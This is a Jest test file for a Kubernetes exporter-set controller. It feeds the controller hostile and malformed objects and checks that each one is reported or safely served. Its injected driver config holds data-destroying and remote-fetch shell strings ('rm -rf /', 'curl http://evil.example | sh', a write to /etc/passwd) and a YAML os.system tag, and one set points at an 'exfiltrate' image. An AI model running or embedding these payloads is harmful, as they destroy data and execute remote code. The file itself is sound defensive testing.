/**
 * Hostile input at the controller (issue 7): one namespace holding a healthy set and many malformed
 * or adversarial objects the API server admits, all served by one run of the real controller. Each
 * hostile set ends up with a condition that says what is wrong (or, where nothing is wrong for the
 * controller, is simply served); objects that only look like ours are left alone; and the controller
 * stays up, settles (a bounded number of API writes over a long settled stretch), and keeps the
 * healthy set at its warm buffer throughout.
 *
 * What admission already refuses is in test/hostile/admission-corpus.test.ts; hostile objects the
 * controller does not yet survive are reported in the notes with their tests.
 */
import { describe, expect, it } from '@jest/globals';
import { parse } from 'yaml';
import {
  Labels,
  type ExporterConfig,
  type ExporterSetSpec,
  type JsonObject,
} from 'virtual-exporters/internal';
import type { KubeObject } from 'virtual-exporters-test-cluster';
import {
  NS,
  createClass,
  createSet,
  getSet,
  instancesOf,
  scenarioPerTest,
  until,
  writesWhenSettled,
  type Scenario,
} from '../scenarios/support';

const startScenario = scenarioPerTest();

const MiB = 1 << 20;

/** A spec whose template and selector use `board` (so no set serves another's leases). */
const boarded = (board: string, more: Partial<ExporterSetSpec> = {}): Partial<ExporterSetSpec> => ({
  minAvailableReplicas: 1,
  selector: { matchLabels: { board } },
  template: { metadata: { labels: { board } }, spec: { drivers: [] } },
  ...more,
});

/** Driver config written to break a YAML or shell rendering that pastes text. */
const INJECTED_CONFIG: JsonObject = {
  'key: with colon\n- and a list': "'; rm -rf / #",
  command: '$(curl http://evil.example | sh) `id` && echo pwned > /etc/passwd',
  tag: "!!python/object/apply:os.system ['id']",
  anchor: '&a [*a, *a]',
  bools: ['yes', 'no', 'on', 'off', 'y', 'n', '~', 'null'],
  numbers: ['0x1F', '010', '1e3', '.inf', '12:30:00'],
  multiline: 'line 1\n---\nline 3: {x}\n... end',
  unicode: 'ünïcødé \u202e RTL \u0000 nul \ud83d\ude80',
  nested: { '': 'empty key', '#comment': '%directive', '<<': { merge: 'key' } },
};

function nested(depth: number): JsonObject {
  let inner: JsonObject = { leaf: true };
  for (let i = 0; i < depth; i++) inner = { [`level${depth - i}`]: inner };
  return inner;
}

const decode = (value: string) => Buffer.from(value, 'base64').toString('utf8');

describe('hostile input at the controller', () => {
  it('reports each hostile set, leaves foreign objects alone, settles, and keeps serving the healthy set', async () => {
    const scenario: Scenario = await startScenario({ speedUp: 50 });
    const { cluster, manager } = scenario;
    const rt = (group: string, version: string, plural: string) =>
      cluster.registry.get(group, version, plural)!;
    const pods = rt('', 'v1', 'pods');
    const secrets = rt('', 'v1', 'secrets');
    const configMaps = rt('', 'v1', 'configmaps');
    const exporters = rt('jumpstarter.dev', 'v1alpha1', 'exporters');
    let stopped = false;
    void manager.done.then(() => (stopped = true));

    createClass(cluster);
    createClass(cluster, 'cloud', { provisioner: 'cloud.example.com' });
    createClass(cluster, 'bulky', {
      parameters: { arch: 'x86_64', blob: 'x'.repeat(MiB), deep: nested(100) },
    });

    createClass(cluster, 'with-credentials', { credentialsSecretRef: { name: 'lab-creds' } });
    createSet(cluster, 'healthy', { minAvailableReplicas: 2, scaleDownCooldown: '1h' });
    createSet(
      cluster,
      'credential-thief',
      boarded('ct', {
        virtualTargetClassName: 'with-credentials',
        images: { exporter: { image: 'evil.example/exfiltrate:latest' } },
      }),
    );
    createSet(cluster, 'no-class', boarded('nc', { virtualTargetClassName: 'missing' }));
    createSet(cluster, 'other-provisioner', boarded('op', { virtualTargetClassName: 'cloud' }));
    createSet(cluster, 'negative-memory', boarded('nm', { parameters: { resources: { memory: '-1Gi' } } }));
    createSet(
      cluster,
      'huge-sizes',
      boarded('hs', { parameters: { resources: { cpu: '1e300', storage: '1e300' } } }),
    );
    createSet(cluster, 'megabyte-arch', boarded('ma', { parameters: { arch: 'y'.repeat(MiB) } }));
    createSet(
      cluster,
      'deep-parameters',
      boarded('dp', { virtualTargetClassName: 'bulky', parameters: { deeper: nested(100) } }),
    );
    createSet(
      cluster,
      'injected-config',
      boarded('ic', {
        template: {
          metadata: { labels: { board: 'ic' } },
          spec: {
            drivers: [
              { name: 'evil', type: 'jumpstarter_driver_custom.driver.Evil', config: INJECTED_CONFIG },
            ],
          },
        },
      }),
    );
    createSet(
      cluster,
      'reserved-label',
      boarded('rl', {
        template: { metadata: { labels: { board: 'rl', [Labels.standby]: 'true' } }, spec: { drivers: [] } },
      }),
    );
    // Schedules admission lets through (a zone, cron fields and a window only the cron library can
    // check): ignored and reported, while the set keeps its static buffer.
    createSet(
      cluster,
      'broken-schedules',
      boarded('bs', {
        maxReplicas: 6,
        schedules: [
          {
            name: 'mars',
            cron: '0 8 * * 1-5',
            timeZone: 'Mars/Olympus_Mons',
            duration: '1h',
            minAvailableReplicas: 3,
          },
          { name: 'no-such-hour', cron: '0 25 * * *', duration: '1h', minAvailableReplicas: 4 },
          { name: 'endless', cron: '@hourly', duration: '2h', minAvailableReplicas: 5 },
        ],
      }),
    );
    const longName = `l${'o'.repeat(61)}g`; // 63 characters: the longest label value
    createSet(cluster, longName, boarded('ln'));

    // Objects that carry the healthy set's label but are not the controller's.
    const foreign = { [Labels.exporterSetName]: 'healthy' };
    const intruders: [typeof pods, KubeObject][] = [
      [
        pods,
        {
          apiVersion: 'v1',
          kind: 'Pod',
          metadata: { name: 'healthy-intruder', labels: foreign },
          spec: { containers: [] },
        },
      ],
      [
        secrets,
        {
          apiVersion: 'v1',
          kind: 'Secret',
          metadata: { name: 'exporter-config-healthy-intruder', labels: foreign },
          data: {},
        },
      ],
      [
        configMaps,
        {
          apiVersion: 'v1',
          kind: 'ConfigMap',
          metadata: { name: 'healthy-intruder', labels: foreign },
          data: {},
        },
      ],
      [
        exporters,
        {
          apiVersion: 'jumpstarter.dev/v1alpha1',
          kind: 'Exporter',
          metadata: { name: 'healthy-intruder', labels: foreign },
          spec: {},
        },
      ],
    ];
    for (const [type, object] of intruders) cluster.store.create(type, NS, object);
    // A lease pinned to an instance the set never had.
    const leases = cluster.jumpstarter!.leases;
    leases.create({
      namespace: NS,
      name: 'ghost',
      selector: {},
      exporterRef: 'healthy-424242',
      duration: '1h',
    });

    const status = (name: string) => getSet(cluster, name)?.status;
    const served = [
      'healthy',
      'deep-parameters',
      'injected-config',
      'reserved-label',
      longName,
      'broken-schedules',
    ];
    await until('the served sets at their buffers', () =>
      served.every((name) => status(name)?.availableReplicas === (name === 'healthy' ? 2 : 1)),
    );
    const reported = ['no-class', 'negative-memory', 'huge-sizes', 'megabyte-arch', 'credential-thief'];
    await until('the hostile sets reported', () =>
      reported.every((name) => status(name)?.conditions !== undefined),
    );
    await cluster.settle();

    // Settled: a long stretch of cluster time costs a bounded number of writes (none, when all is well).
    expect(await writesWhenSettled(cluster, 60_000)).toBe(0);
    expect(stopped).toBe(false);
    expect(manager.isLeader()).toBe(true);

    const condition = (set: string, type: string) => {
      const c = status(set)?.conditions?.find((x) => x.type === type);
      return c && { status: c.status, reason: c.reason, message: c.message };
    };
    // Upstream's message on Available; the finding with its fix on ParametersValid (ours).
    expect(condition('no-class', 'Available')).toEqual({
      status: 'False',
      reason: 'VirtualTargetClassNotFound',
      message: 'VirtualTargetClass "missing" not found',
    });
    expect(condition('no-class', 'ParametersValid')).toEqual({
      status: 'Unknown',
      reason: 'VirtualTargetClassNotFound',
      message:
        'the parameters cannot be checked without the class: spec.virtualTargetClassName: VirtualTargetClass "missing" was not found in namespace "lab"; create it there or fix virtualTargetClassName (got "missing")',
    });
    expect(condition('negative-memory', 'ParametersValid')).toEqual({
      status: 'False',
      reason: 'InvalidParameters',
      message:
        'spec.parameters.resources.memory: must be a Kubernetes quantity of at least 1Mi, such as 512Mi or 16Gi (a bare number means bytes) (got "-1Gi")',
    });
    expect(condition('huge-sizes', 'ParametersValid')).toEqual({
      status: 'False',
      reason: 'InvalidParameters',
      message:
        'spec.parameters.resources.cpu: must be at most 1024 cores, the most a QEMU guest can have (got "1e300"); ' +
        'spec.parameters.resources.storage: must be at most 1Pi (1125899906842624 bytes) (got "1e300")',
    });
    expect(condition('megabyte-arch', 'ParametersValid')).toEqual({
      status: 'False',
      reason: 'InvalidParameters',
      message: `spec.parameters.arch: must be one of "x86_64", "aarch64" (the guest architecture) (got "${'y'.repeat(76)}...)`,
    });
    expect(condition('credential-thief', 'ParametersValid')).toEqual({
      status: 'False',
      reason: 'InvalidParameters',
      message:
        'spec.images.exporter.image: replaces the exporter image of VirtualTargetClass "with-credentials", whose credentials (Secret "lab-creds") the exporter container receives; only the class may choose that image, so set it in the class\'s images (got "evil.example/exfiltrate:latest")',
    });
    expect(condition('broken-schedules', 'SpecValid')).toEqual({
      status: 'False',
      reason: 'ScheduleIgnored',
      message:
        'spec.schedules[0].timeZone: is not a time zone of the tz database; schedules[].timeZone must be an IANA time zone name such as UTC, Europe/Berlin or America/New_York (got "Mars/Olympus_Mons"); ' +
        'spec.schedules[1].cron: is not a cron expression the controller can read (Constraint error, got value 25 expected range 0-23); schedules[].cron must be five fields separated by spaces (minute hour day-of-month month day-of-week) or one of @yearly, @annually, @monthly, @weekly, @daily, @hourly (got "0 25 * * *"); ' +
        'spec.schedules[2].duration: is longer than the shortest gap between occurrences of cron "@hourly" (1h0m0s), so the window would never close: make it at most 1h0m0s, or open windows less often (got "2h"); ' +
        'a schedule the controller cannot read is ignored (counts above maxReplicas are capped), and the pool keeps its static warm buffer until it is fixed',
    });
    expect(status('broken-schedules')?.effectiveMinAvailableReplicas).toBeUndefined();
    expect(instancesOf(cluster, 'broken-schedules')).toHaveLength(1);
    for (const name of reported) expect(instancesOf(cluster, name)).toEqual([]);
    for (const name of served) expect(condition(name, 'WarmBufferAvailable')?.status).toBe('True');

    // Another provisioner's set is not this controller's to touch or report on.
    expect(getSet(cluster, 'other-provisioner')?.status).toBeUndefined();
    expect(getSet(cluster, 'other-provisioner')?.metadata?.finalizers).toBeUndefined();
    expect(instancesOf(cluster, 'other-provisioner')).toEqual([]);

    // Driver config with YAML and shell metacharacters comes out of config.yaml exactly as written.
    const [injected] = instancesOf(cluster, 'injected-config');
    const configSecret = cluster.store.get(secrets, NS, `exporter-config-${injected.metadata!.name}`);
    const config = parse(decode((configSecret.data as Record<string, string>)['config.yaml']), {
      version: '1.1',
    }) as ExporterConfig;
    expect(config.export.evil).toEqual({
      type: 'jumpstarter_driver_custom.driver.Evil',
      config: INJECTED_CONFIG,
    });
    expect(Object.keys(config.export)).toEqual(['evil', 'tcp']);
    expect(config.metadata).toEqual({ name: injected.metadata!.name, namespace: NS });

    // The reserved label did not keep the instance a standby: it has its Pod.
    const [reserved] = instancesOf(cluster, 'reserved-label');
    expect(cluster.store.get(pods, NS, reserved.metadata!.name!).metadata.name).toBe(reserved.metadata!.name);

    // The look-alikes are still there, untouched, and the healthy set has exactly its own two.
    for (const [type, object] of intruders) {
      const live = cluster.store.get(type, NS, object.metadata.name!);
      expect(live.metadata.resourceVersion).toBeDefined();
      expect(live.metadata.ownerReferences).toBeUndefined();
    }
    const healthy = instancesOf(cluster, 'healthy').map((e) => e.metadata!.name!);
    expect(healthy.filter((name) => name !== 'healthy-intruder')).toHaveLength(2);
    expect(healthy).toContain('healthy-intruder');
    expect(status('healthy')).toMatchObject({ replicas: 2, availableReplicas: 2 });
    expect(leases.get(NS, 'ghost')?.status).toMatchObject({ ended: true });
  });
});
